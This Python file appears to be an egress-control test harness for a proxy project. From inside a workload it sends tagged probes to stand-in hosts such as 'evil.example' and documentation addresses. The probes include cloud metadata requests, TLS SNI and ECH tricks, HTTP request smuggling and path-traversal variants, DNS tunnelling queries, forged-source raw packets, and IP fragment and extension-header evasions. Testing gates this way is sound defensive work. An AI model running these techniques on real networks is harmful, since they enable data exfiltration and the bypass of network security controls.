"""Run on a machine of a workload: everything we know to get something out, each with a tag of its own in what it sends.

The argument is a Target as JSON. It writes JSON: the names of all attacks in the order of their numbers, and those that
the kernel did not let this user try. It knows nothing of gates: what came of it, whoever listens outside says.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass
from functools import partial
from ipaddress import ip_address

from proxy.verify.packets import client_hello, quic_initial, quic_unknown_version, stun
from tests.proxy.nameserver import wire

ELSEWHERE4, ELSEWHERE6 = "203.0.113.66", "2001:db8:66::66"  # nobody's: no rule has them, and they answer
RESOLVER4, RESOLVER6 = "198.51.100.53", "2001:db8:53::53"
METADATA = ("169.254.169.254", "168.63.129.16", "100.100.100.200", "fd00:ec2::254")
PATIENCE_S = 1.5  # for whoever answers; what is sent is sent by then
TCP, UDP, ICMP, ICMP6 = 6, 17, 1, 58
FIN, SYN, RST, PUSH, ACK, URGENT = 1, 2, 4, 8, 16, 32
ETH_P_IP, ETH_P_IPV6 = 0x0800, 0x86DD
MSG_FASTOPEN = 0x20000000
OPEN_PORT = 40022  # of a connection from here to the policy's `tcp`, if there is one


@dataclass(frozen=True)
class Target:
    """Where one is, and what there is to be attacked.

    mine        addresses of this workload, IPv4 and IPv6
    gateway     the first router's near addresses
    outside     its far addresses
    neighbour   addresses of another workload
    link        the first router's MAC, in hex; empty where there is none
    policy      names that rules of this workload have, by what for, and their addresses
    other       what rules of the other workload have
    """

    nonce: str
    mine: tuple[str, str]
    gateway: tuple[str, str]
    outside: tuple[str, str]
    neighbour: tuple[str, str]
    device: str
    link: str
    policy: dict[str, str]
    other: dict[str, str]

    def dump(self) -> str:
        return json.dumps(asdict(self))


type Attack = Callable[[bytes], None]
type Form = Callable[[bytes], bytes]  # what is sent, with a tag in it
type Ends = tuple[str, str]


def text(tag: bytes) -> str:
    return "x" + tag.hex()


def host(tag: bytes) -> str:
    return f"{text(tag)}.evil.example"


def question(name: str, kind: int = 1, *, opt: bytes | None = b"", qclass: int = 1) -> bytes:
    """Of a client; `opt` are the options inside its OPT record, None for a client without one."""
    extra = b"" if opt is None else struct.pack("!BHHIH", 0, 41, 1232, 0, len(opt)) + opt
    head = struct.pack("!6H", 0x5A5A, 0x0120, 1, 0, 0, 1 if extra else 0)
    return head + wire(name) + struct.pack("!HH", kind, qclass) + extra


def fill(tag: bytes, length: int) -> bytes:
    """So many bytes, of whole tags and zeros."""
    return (tag * (length // len(tag))).ljust(length, b"\0")


# --- with sockets


def say(address: str, port: int, *messages: bytes) -> None:
    with socket.create_connection((address, port), PATIENCE_S) as sock:
        sock.settimeout(PATIENCE_S)
        for message in messages:
            sock.sendall(message)
        sock.recv(4096)


def say_over_tls(address: str, port: int, name: str, *messages: bytes) -> None:
    """Whatever certificate is shown."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with (
        socket.create_connection((address, port), PATIENCE_S) as sock,
        context.wrap_socket(sock, server_hostname=name) as tls,
    ):
        tls.settimeout(PATIENCE_S)
        for message in messages:
            tls.sendall(message)
        tls.recv(4096)


def saying(address: str, port: int, form: Form) -> Attack:
    return lambda tag: say(address, port, form(tag))


def sending(address: str, port: int, form: Form = bytes) -> Attack:
    return lambda tag: send(address, port, form(tag))


def asking(tag: bytes) -> bytes:
    return question(host(tag))


def timing(head: int) -> Form:
    return lambda tag: bytes((head,)) + fill(tag, 47)


def send(address: str, port: int, message: bytes, *, source_port: int = 0) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.bind(("", source_port))
        for _ in range(2):
            sock.sendto(message, (address, port))
            time.sleep(0.05)


def ping(address: str, message: bytes) -> None:
    """By a socket that needs no capability."""
    is_v6 = ":" in address
    family, protocol = (socket.AF_INET6, ICMP6) if is_v6 else (socket.AF_INET, ICMP)
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as sock:
        sock.sendto(bytes((128 if is_v6 else 8, 0, 0, 0, 0, 1, 0, 1)) + message, (address, 0))


def fast_open(address: str, port: int, message: bytes) -> None:
    """Without a cookie, where `net.ipv4.tcp_fastopen` says so: in the SYN itself."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE_S)
        sock.sendto(message, MSG_FASTOPEN, (address, port))
        sock.recv(4096)


def get(path: str, name: str, *fields: str, method: str = "GET", body: bytes = b"") -> bytes:
    head = "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {name}", *fields, "", ""))
    return head.encode("latin-1") + body


# --- without


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2 + len(data) % 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address: str) -> bytes:
    return ip_address(address).packed


def ipv4(source: str, target: str, protocol: int, body: bytes, *, options: bytes = b"", fragment: int = 0) -> bytes:
    words = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH", 0x40 | words, 0, words * 4 + len(body), 0x77, fragment, 64, protocol, 0)
    head += packed(source) + packed(target) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def ipv6(source: str, target: str, protocol: int, body: bytes) -> bytes:
    return struct.pack("!IHBB", 0x60000000, len(body), protocol, 64) + packed(source) + packed(target) + body


def summed(source: str, target: str, protocol: int, body: bytes, at: int) -> bytes:
    """With the checksum that the ends go into."""
    ends = packed(source) + packed(target)
    head = ends + struct.pack("!II", len(body), protocol)  # for IPv4 the sum is the same
    return body[:at] + struct.pack("!H", checksum(head + body)) + body[at + 2 :]


def datagram(source: str, target: str, port: int, message: bytes, source_port: int = 40000) -> bytes:
    head = struct.pack("!HHHH", source_port, port, 8 + len(message), 0)
    return summed(source, target, UDP, head + message, 6)


def segment(source: str, target: str, port: int, flags: int, message: bytes, source_port: int = 40000) -> bytes:
    head = struct.pack("!HHIIBBHHH", source_port, port, 77, 77 if flags & ACK else 0, 0x50, flags, 65535, 0, 0)
    return summed(source, target, TCP, head + message, 16)


def echo(source: str, target: str, message: bytes) -> bytes:
    if ":" in target:
        return summed(source, target, ICMP6, b"\x80\0\0\0\0\1\0\1" + message, 2)
    body = b"\x08\0\0\0\0\1\0\1" + message
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def icmp4(kind: int, code: int, message: bytes) -> bytes:
    body = bytes((kind, code, 0, 0)) + bytes(4) + message
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


class Raw:
    """Packets of one's own making, put on the link to the first router: no rule of this machine sees them."""

    def __init__(self, it: Target) -> None:
        self._it = it

    def put(self, packet: bytes, source: bytes = b"") -> None:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
            sock.bind((self._it.device, 0))
            own: bytes = sock.getsockname()[4]
            kind = ETH_P_IP if packet[0] >> 4 == 4 else ETH_P_IPV6
            sock.send(bytes.fromhex(self._it.link) + (source or own) + struct.pack("!H", kind) + packet)

    def ip(self, ends: Ends, protocol: int, form: Form, source: bytes = b"") -> Attack:
        """`source` is a MAC that is not one's own."""
        build = ipv6 if ":" in ends[1] else ipv4
        return lambda tag: self.put(build(*ends, protocol, form(tag)), source)

    def udp(self, ends: Ends, port: int, form: Form = bytes, source: bytes = b"") -> Attack:
        return self.ip(ends, UDP, lambda tag: datagram(*ends, port, form(tag)), source)

    def tcp(self, ends: Ends, port: int, flags: int) -> Attack:
        return self.ip(ends, TCP, lambda tag: segment(*ends, port, flags, tag))

    def routed(self, ends: Ends) -> Attack:
        """By this machine's own kernel."""
        family, build = (socket.AF_INET6, ipv6) if ":" in ends[1] else (socket.AF_INET, ipv4)

        def go(tag: bytes) -> None:
            with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
                sock.sendto(build(*ends, 253, tag), (ends[1], 0))

        return go


# --- the list


def attacks(it: Target) -> Iterator[tuple[str, Attack]]:
    """Every attack by its name. One to the first router itself (`near …`) goes nowhere else also with no gate."""
    yield from _streams(it)
    yield from _tls(it)
    yield from _inspected(it)
    yield from _datagrams(it)
    yield from _questions(it)
    yield from _time(it)
    yield from _near(it)
    yield from _raw(it)
    yield from _forged(it)
    yield from _headers(it)


def _streams(it: Target) -> Iterator[tuple[str, Attack]]:
    for port in (22, 25, 445, 3128, 8080, 40000):
        yield f"tcp {port}", saying(ELSEWHERE4, port, lambda tag: tag + b"\r\n")
    for port in (22, 40000):
        yield f"tcp6 {port}", saying(ELSEWHERE6, port, lambda tag: tag + b"\r\n")
    for address in METADATA:
        yield f"metadata {address}", saying(address, 80, lambda tag: get("/" + text(tag), "metadata"))
    opaque = it.policy["tcp"]
    yield "tcp beside the port", lambda tag: say(opaque, 23, tag)
    yield "tcp to another workload's destination", lambda tag: say(it.other["tcp"], 5432, tag)
    yield "tcp to the name servers", lambda tag: say(it.policy["nameserver"], 22, tag)
    yield "http by address", lambda tag: say(ELSEWHERE4, 80, get("/" + text(tag), ELSEWHERE4))
    yield "http to another name", lambda tag: say(it.policy["inspected"], 80, get("/", host(tag)))
    yield "http on 80 to a name for 443", lambda tag: say(ELSEWHERE4, 80, get("/" + text(tag), "api.example"))
    yield "http on 443", lambda tag: say(it.policy["passed"], 443, get("/" + text(tag), "passed.example"))
    yield "ssh on 443", lambda tag: say(it.policy["passed"], 443, b"SSH-2.0-" + text(tag).encode() + b"\r\n")
    target = f"{ELSEWHERE4}:443"
    yield "CONNECT", lambda tag: say(ELSEWHERE4, 3128, get(target, target, f"X: {text(tag)}", method="CONNECT"))
    yield "fast open", lambda tag: fast_open(ELSEWHERE4, 443, client_hello(host(tag), bytes(64)))
    yield "fast open, opaque", lambda tag: fast_open(ELSEWHERE4, 40000, tag)


def _tls(it: Target) -> Iterator[tuple[str, Attack]]:
    def hello(name: str | None, tag: bytes, *, ech: bool = False) -> bytes:
        return client_hello(name, fill(tag, 64), ech=ech)

    early = b"\x17\x03\x03\x00\x20"
    passed = it.policy["passed"]
    yield "tls to another name", lambda tag: say(passed, 443, client_hello(host(tag), bytes(64)))
    yield "tls to another name, IPv6", lambda tag: say(ELSEWHERE6, 443, client_hello(host(tag), bytes(64)))
    yield "tls above a wildcard", lambda tag: say(ELSEWHERE4, 443, hello("cdn.example", tag))
    yield "tls below an exact name", lambda tag: say(passed, 443, hello(f"{text(tag)}.passed.example", tag))
    yield "tls without a name", lambda tag: say(passed, 443, hello(None, tag))
    yield "tls to an address", lambda tag: say(passed, 443, hello("203.0.113.66", tag))
    yield "tls with ech", lambda tag: say(passed, 443, hello("passed.example", tag, ech=True))
    yield "tls on another port", lambda tag: say(passed, 8443, hello("passed.example", tag), tag)
    yield "tls to a resolver (DoT)", lambda tag: say(RESOLVER4, 853, hello("one.one.one.one", tag))
    yield "tls to a resolver (DoH)", lambda tag: say(RESOLVER4, 443, hello("cloudflare-dns.com", tag))
    yield "early data", lambda tag: say(ELSEWHERE4, 443, client_hello(host(tag), bytes(64)) + early + fill(tag, 32))
    yield "a hello byte by byte", lambda tag: say(passed, 443, *_bytes(hello(host(tag), tag)))
    yield "a hello that is too long", lambda tag: say(passed, 443, b"\x16\x03\x01\x40\0\x01\0\x80\0" + tag * 4000)
    yield "a name with a zero byte", lambda tag: say(passed, 443, hello(f"passed.example\0.{host(tag)}", tag))


def _bytes(message: bytes) -> Iterator[bytes]:
    return (bytes((one,)) for one in message)


_BOTH = ("Content-Length: 5", "Transfer-Encoding: chunked")


def _inspected(it: Target) -> Iterator[tuple[str, Attack]]:
    def over_tls(*messages: bytes, name: str = "api.example") -> None:
        say_over_tls(it.policy["inspected"], 443, name, *messages)

    def path(before: str, *fields: str, method: str = "GET") -> Attack:
        return lambda tag: over_tls(get(f"{before}{text(tag)}", "api.example", *fields, method=method))

    yield "inspected: another host", lambda tag: over_tls(get("/search/a", host(tag)))
    yield "inspected: two hosts", lambda tag: over_tls(get("/search/a", "api.example", f"Host: {host(tag)}"))
    yield "inspected: absolute form", lambda tag: over_tls(get(f"https://{host(tag)}/search/a", "api.example"))
    yield "inspected: another path", path("/forecasts/")
    yield "inspected: dots", path("/search/../")
    yield "inspected: escaped dots", path("/search/%2e%2e/")
    yield "inspected: twice escaped", path("/search/%252e%252e/")
    yield "inspected: a backslash", path("/search/..\\")
    yield "inspected: an escaped slash", path("/search/a%2f..%2f")
    yield "inspected: parameters", path("/search/..;/")
    yield "inspected: an empty segment", path("//search/")
    yield "inspected: in the fragment", path("/search/a#")
    yield "inspected: a suffix", path("/search")
    for method in ("POST", "DELETE", "HEAD"):
        yield (
            f"inspected: {method}",
            path("/search/", method=method),
        )
    yield (
        "inspected: a method in a header",
        lambda tag: over_tls(get(f"/search/{text(tag)}", "api.example", "X-HTTP-Method-Override: DELETE")),
    )
    yield (
        "inspected: a path in a header",
        lambda tag: over_tls(get("/search/a", "api.example", f"X-Original-URL: /forecasts/{text(tag)}")),
    )
    yield (
        "inspected: a second request in a body",
        lambda tag: over_tls(
            get(
                f"/search/{text(tag)}",
                "api.example",
                *_BOTH,
                body=b"0\r\n\r\n" * 2,
            )
            + get(f"/forecasts/{text(tag)}", "api.example")
        ),
    )
    yield (
        "inspected: a second request",
        lambda tag: over_tls(get("/search/a", "api.example") + get(f"/forecasts/{text(tag)}", "api.example")),
    )
    yield (
        "inspected: a second host",
        lambda tag: over_tls(get("/search/a", "api.example") + get("/search/b", host(tag))),
    )
    yield (
        "inspected: upgrade",
        lambda tag: over_tls(get("/search/a", "api.example", "Connection: Upgrade", "Upgrade: h2c", f"X: {text(tag)}")),
    )
    yield "inspected: a folded field", lambda tag: over_tls(get("/search/a", "api.example", f"X: a\r\n {text(tag)}"))
    yield "inspected: another name", lambda tag: over_tls(get(f"/{text(tag)}", "api.example"), name="evil.example")


def _datagrams(it: Target) -> Iterator[tuple[str, Attack]]:
    def initial(name: str) -> Attack:
        return lambda tag: send(it.policy["quic"], 443, quic_initial(name, fill(tag, 64)))

    for port in (1, 69, 443, 500, 853, 1194, 3478, 4500, 5353, 51820, 40000):
        yield f"udp {port}", sending(ELSEWHERE4, port)
    for port in (443, 40000):
        yield f"udp6 {port}", sending(ELSEWHERE6, port)
    for address in METADATA:
        yield f"udp to metadata {address}", sending(address, 40000)
    yield "udp, STUN", lambda tag: send(ELSEWHERE4, 3478, stun(fill(tag, 12)))
    yield "udp beside the port", lambda tag: send(it.policy["udp"], 9001, tag)
    yield "udp to a tcp rule", lambda tag: send(it.policy["tcp"], 22, tag)
    yield "udp to another workload's destination", lambda tag: send(it.other["udp"], 9100, tag)
    yield "udp to the name servers", lambda tag: send(it.policy["nameserver"], 5300, tag)
    yield "udp from port 53", lambda tag: send(ELSEWHERE4, 40000, tag, source_port=53)
    yield "quic to another name", initial("evil.example")
    yield "quic to a name of tcp alone", initial("passed.example")
    yield "quic elsewhere", lambda tag: send(ELSEWHERE4, 443, quic_initial("evil.example", fill(tag, 64)))
    yield "quic of an unknown version", lambda tag: send(it.policy["quic"], 443, quic_unknown_version(fill(tag, 16)))
    yield "quic with a short header", lambda tag: send(it.policy["quic"], 443, b"\x40" + tag * 10)
    for name, address in (("ping", ELSEWHERE4), ("ping6", ELSEWHERE6)):
        yield name, partial(ping, address)


def _questions(it: Target) -> Iterator[tuple[str, Attack]]:
    """Whoever is asked; with no gate somebody answers there."""

    def ask(name: str, kind: int = 1, *, at: str = RESOLVER4, opt: bytes | None = b"", qclass: int = 1) -> Attack:
        return lambda tag: send(
            at, 53, question(name.format(text(tag)), kind, opt=opt and opt.replace(b"TAG", tag), qclass=qclass)
        )

    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 251, 252, 255, 65400):
        yield f"dns of type {kind}", ask("{}.evil.example", kind)
    for kind in (10, 16, 33, 255):
        yield f"dns of type {kind} below a wildcard", ask("{}.cdn.example", kind)
    yield "dns over IPv6", ask("{}.evil.example", at=RESOLVER6)
    yield "dns of the first router", ask("{}.evil.example", at=it.policy["nameserver"])
    yield "dns below an exact name", ask("{}.passed.example")
    yield "dns below another workload's wildcard", ask("{}.cdn-b.example")
    yield "dns with many labels below a wildcard", ask("a.b.c.d.{}.cdn.example")
    yield "dns with a long label below a wildcard", ask("a" * 60 + ".{}.cdn.example")
    yield "dns of class CH", ask("{}.cdn.example", qclass=3)
    yield "dns with a cookie", ask("passed.example", opt=b"\0\x0a\0\x08TAG1")
    yield "dns with a client subnet", ask("passed.example", opt=b"\0\x08\0\x0c\0\x01\x18\0TAG1")
    yield "dns with padding", ask("passed.example", opt=b"\0\x0c\0\x07TAG")
    yield "dns with bytes behind it", lambda tag: send(RESOLVER4, 53, question("passed.example", opt=None) + tag)
    yield (
        "dns with a second question",
        lambda tag: send(RESOLVER4, 53, _with_two(question("passed.example", opt=None), wire(host(tag)) + b"\0\1\0\1")),
    )
    yield (
        "dns with an answer in it",
        lambda tag: send(
            RESOLVER4,
            53,
            question("passed.example", opt=None)[:6] + b"\0\1" + wire(host(tag)) + b"\0\1\0\1\0\0\0\0\0\4abcd",
        ),
    )
    yield "dns, an update", lambda tag: send(RESOLVER4, 53, b"\0\1\x28\0" + question(host(tag), opt=None)[4:])
    yield "dns, an answer", lambda tag: send(RESOLVER4, 53, b"\0\1\x80\0" + question(host(tag), opt=None)[4:])
    yield "dns, no dns", lambda tag: send(RESOLVER4, 53, tag * 20)
    for at in (RESOLVER4, RESOLVER6):
        yield f"dns over tcp {at}", saying(at, 53, lambda tag: _prefixed(asking(tag)))
    yield "tcp 53, no dns", lambda tag: say(RESOLVER4, 53, tag * 9000)


def _prefixed(message: bytes) -> bytes:
    return len(message).to_bytes(2) + message


def _with_two(message: bytes, second: bytes) -> bytes:
    return message[:4] + b"\0\2" + message[6:] + second


def _time(it: Target) -> Iterator[tuple[str, Attack]]:
    heads = {
        "a query": 0x23, "a query of version 3": 0x1B, "a query of version 1": 0x0B, "symmetric": 0x21,
        "an answer": 0x24, "a broadcast": 0x25, "control": 0x16, "private": 0x17,
    }  # fmt: skip
    server = it.policy["time"]
    for what, head in heads.items():
        yield f"ntp, {what}", sending(server, 123, timing(head))
    yield "ntp, cookie alone", lambda tag: send(server, 123, b"\x23" + bytes(39) + fill(tag, 8))
    yield "ntp, extension", lambda tag: send(server, 123, b"\x23" + bytes(47) + b"\x04\x04\x00\x14" + fill(tag, 16))
    yield "ntp, short", lambda tag: send(server, 123, b"\x23" + tag)
    yield "ntp, elsewhere", lambda tag: send(ELSEWHERE4, 123, b"\x23" + fill(tag, 47))
    yield "ntp, elsewhere, IPv6", lambda tag: send(ELSEWHERE6, 123, b"\x23" + fill(tag, 47))
    yield "ntp over tcp", lambda tag: say(ELSEWHERE4, 123, tag * 7)


def _near(it: Target) -> Iterator[tuple[str, Attack]]:
    """Its own ports and services, by which it could be had to send something."""
    for number, address in enumerate(it.gateway):
        if not address:
            continue
        for port in (15001, 9901, 22, 53):
            yield f"near{number} tcp {port}", saying(address, port, lambda tag: get("/", host(tag)))
        yield f"near{number} hello", saying(address, 15001, lambda tag: client_hello(host(tag), bytes(64)))
        yield f"near{number} connect", saying(address, 15001, lambda tag: get(host(tag), "x", method="CONNECT"))
        for port in (15006, 15053, 10123, 40000):
            yield f"near{number} udp {port}", sending(address, port, asking)
        yield f"near{number} dns", sending(address, 53, asking)
        yield f"near{number} ntp", sending(address, 123, timing(0x23))
    for number, address in enumerate(it.outside):
        if address:
            yield f"near outside{number} tcp", saying(address, 15001, bytes)
            yield f"near outside{number} udp", sending(address, 40000)


PROTOCOLS = {
    "IPv4 in IP": 4, "IPv6 in IP": 41, "DCCP": 33, "GRE": 47, "ESP": 50, "AH": 51, "SCTP": 132, "UDP-Lite": 136,
    "experimental": 253, "reserved": 255,
}  # fmt: skip
FLAGS = {
    "a SYN with bytes": SYN, "a segment of no connection": ACK | PUSH, "RST": RST, "FIN": FIN | ACK,
    "SYN, ACK": SYN | ACK, "no flags": 0, "all flags": 63, "urgent": ACK | URGENT,
}  # fmt: skip


def _raw(it: Target) -> Iterator[tuple[str, Attack]]:
    if not it.link:
        return
    raw = Raw(it)
    mine, here6 = it.mine
    for family, ends in (("IPv4", (mine, ELSEWHERE4)), ("IPv6", (here6, ELSEWHERE6))):
        for what, number in PROTOCOLS.items():
            yield f"raw {family} {what}", raw.ip(ends, number, lambda tag: tag * 6)
        for what, flags in FLAGS.items():
            yield f"raw {family} {what}", raw.tcp(ends, 443, flags)
        for port in (53, 123, 443, 40000):
            yield f"raw {family} udp {port}", raw.udp(ends, port)
        unsummed = struct.pack("!HHHH", 40000, 53, 15, 0)
        yield f"raw {family} udp without checksum", raw.ip(ends, UDP, unsummed.__add__)
        yield f"raw {family} echo", raw.ip(ends, ICMP6 if family == "IPv6" else ICMP, partial(echo, *ends))
        yield f"raw {family} from another MAC", raw.udp(ends, 40000, source=b"\x02\0\0\0\0\x07")
        yield f"raw {family} routed", raw.routed(ends)
    yield from _icmp(it, raw)


def _icmp(it: Target, raw: Raw) -> Iterator[tuple[str, Attack]]:
    mine, here6 = it.mine
    ends6 = here6, ELSEWHERE6

    def message6(kind: int, tag: bytes) -> bytes:
        return summed(*ends6, ICMP6, bytes((kind, 0, 0, 0)) + bytes(4) + tag * 4, 2)

    for kind in (0, 3, 4, 5, 11, 12, 13, 17, 42):
        yield f"icmp {kind}", raw.ip((mine, ELSEWHERE4), ICMP, partial(icmp4, kind, 0))
    for kind in (1, 2, 3, 4, 128, 129, 130, 133, 134, 135, 136, 137, 143, 160):
        yield f"icmp6 {kind}", raw.ip(ends6, ICMP6, partial(message6, kind))

    def about(kind: int, code: int, tag: bytes) -> bytes:
        """To connection tracking an error about an open connection belongs to it; its sender writes what it quotes."""
        far = it.policy["tcp"]
        return icmp4(kind, code, ipv4(far, mine, TCP, segment(far, mine, OPEN_PORT, ACK, tag * 4, 22)))

    for target in (ELSEWHERE4, it.policy["tcp"]):
        for kind, code in ((3, 1), (3, 4), (11, 0), (5, 0)):
            attack = raw.ip((mine, target), ICMP, partial(about, kind, code))
            yield f"icmp {kind} {code} about what is open, to {target}", attack


def _below_anothers(tag: bytes) -> bytes:
    return question(f"{text(tag)}.cdn-b.example")


def _forged(it: Target) -> Iterator[tuple[str, Attack]]:
    """From addresses of others: their rules, their openings, the gate's own rights."""
    if not it.link:
        return
    raw = Raw(it)
    sources4 = (it.neighbour[0], it.gateway[0], it.outside[0], "10.77.1.77", ELSEWHERE4, "198.51.100.7")
    sources6 = (it.neighbour[1], it.gateway[1], it.outside[1], "fd77:1::77", ELSEWHERE6, "2001:db8:7::7")
    nobodys = ("127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.1", "::1", "::", "fe80::7")
    for source in (*sources4, *sources6, *nobodys):
        is_v6 = ":" in source
        elsewhere, resolver, family = (ELSEWHERE6, RESOLVER6, "6") if is_v6 else (ELSEWHERE4, RESOLVER4, "")
        yield f"forged {source} udp", raw.udp((source, elsewhere), 40000)
        yield f"forged {source} SYN", raw.tcp((source, elsewhere), 40000, SYN)
        yield f"forged {source} dns", raw.udp((source, resolver), 53, _below_anothers)
        yield f"forged {source} SYN to what is open to another", raw.tcp((source, it.other["tcp" + family]), 5432, SYN)
        yield f"forged {source} udp to what is open to another", raw.udp((source, it.other["udp" + family]), 9100)


def _headers(it: Target) -> Iterator[tuple[str, Attack]]:
    """What stands before or between what a rule looks at."""
    if not it.link:
        return
    raw = Raw(it)
    (mine, here6), to4, to6 = it.mine, ELSEWHERE4, ELSEWHERE6
    route = packed(to4)
    options = {
        "loose source route": b"\x83\x07\x04" + route + b"\0",
        "record route": b"\x07\x07\x04" + bytes(4) + b"\0", "timestamp": b"\x44\x08\x05\0" + bytes(4),
        "router alert": b"\x94\x04\0\0", "unknown": b"\x9e\x04\0\0",
    }  # fmt: skip

    def optioned(to: str, option: bytes) -> Attack:
        return lambda tag: raw.put(ipv4(mine, to, UDP, datagram(mine, to, 40000, tag), options=option))

    for what, option in options.items():
        for first in (to4, it.gateway[0]):
            near = "near " if first != to4 and what != "loose source route" else ""
            yield (
                f"{near}IP option {what} {first}",
                optioned(first, option),
            )
    whole = partial(datagram, mine, to4, 40000)
    yield "a first fragment alone", lambda tag: raw.put(ipv4(mine, to4, UDP, whole(tag), fragment=0x2000))
    yield "a last fragment alone", lambda tag: raw.put(ipv4(mine, to4, UDP, tag, fragment=0x0100))

    def in_two(tag: bytes, at: int) -> None:
        body = datagram(mine, to4, 40000, tag * 4)
        raw.put(ipv4(mine, to4, UDP, body[:at], fragment=0x2000))
        raw.put(ipv4(mine, to4, UDP, body[at:], fragment=at // 8))

    yield "two fragments", lambda tag: in_two(tag, 16)
    yield "two fragments, the first a header", lambda tag: in_two(tag, 8)

    def extended(kind: int, header: bytes, *, inner: int = UDP) -> Attack:
        """`header` is what stands between its length and the inner packet."""

        def go(tag: bytes) -> None:
            body = header.replace(b"TAG-TAG", tag)
            inside = datagram(here6, to6, 40000, tag) if inner == UDP else segment(here6, to6, 443, SYN, tag)
            raw.put(ipv6(here6, to6, kind, bytes((inner, (len(body) + 2) // 8 - 1)) + body + inside))

        return go

    tlv = b"\x1e\x0cTAG-TAG" + bytes(5)  # an option that is passed over
    for inner, name in ((UDP, "udp"), (TCP, "tcp")):
        yield f"hop-by-hop options, {name}", extended(0, tlv, inner=inner)
        yield f"destination options, {name}", extended(60, tlv, inner=inner)
        yield f"an atomic fragment, {name}", extended(44, bytes(6), inner=inner)
        yield f"routing header 0, {name}", extended(43, b"\0\0" + bytes(4) + packed(to6), inner=inner)
        yield f"segment routing, {name}", extended(43, b"\x04\0\0\0\0\0" + packed(to6), inner=inner)
        yield f"mobility, {name}", extended(135, tlv, inner=inner)
        yield f"shim6, {name}", extended(140, tlv, inner=inner)
    yield "no next header", lambda tag: raw.put(ipv6(here6, to6, 59, tag * 4))
    twice = bytes((60, 1)) + bytes(14)
    yield (
        "many extension headers",
        lambda tag: raw.put(
            ipv6(here6, to6, 60, twice * 8 + bytes((UDP, 1)) + bytes(14) + datagram(here6, to6, 40000, tag))
        ),
    )
    yield (
        "a last fragment alone, IPv6",
        lambda tag: raw.put(ipv6(here6, to6, 44, bytes((UDP, 0)) + struct.pack("!HI", 0x0100, 7) + tag)),
    )


def run(it: Target) -> tuple[list[str], list[str]]:
    """Names by their numbers, and those that this user may not try."""
    named = list(attacks(it))
    refused: list[str] = []

    def go(number: int) -> None:
        name, attack = named[number]
        try:
            attack(bytes.fromhex(it.nonce) + number.to_bytes(2))
        except PermissionError:
            refused.append(name)
        except OSError:  # refused, ended, not answered: what came of it is seen outside
            pass

    with ThreadPoolExecutor(48) as pool:
        list(pool.map(go, range(len(named))))
    return [name for name, _ in named], refused


def main(target: str) -> None:
    names, refused = run(Target(**json.loads(target)))
    print(json.dumps({"names": names, "refused": refused, "uid": os.getuid()}))


if __name__ == "__main__":
    main(sys.argv[1])
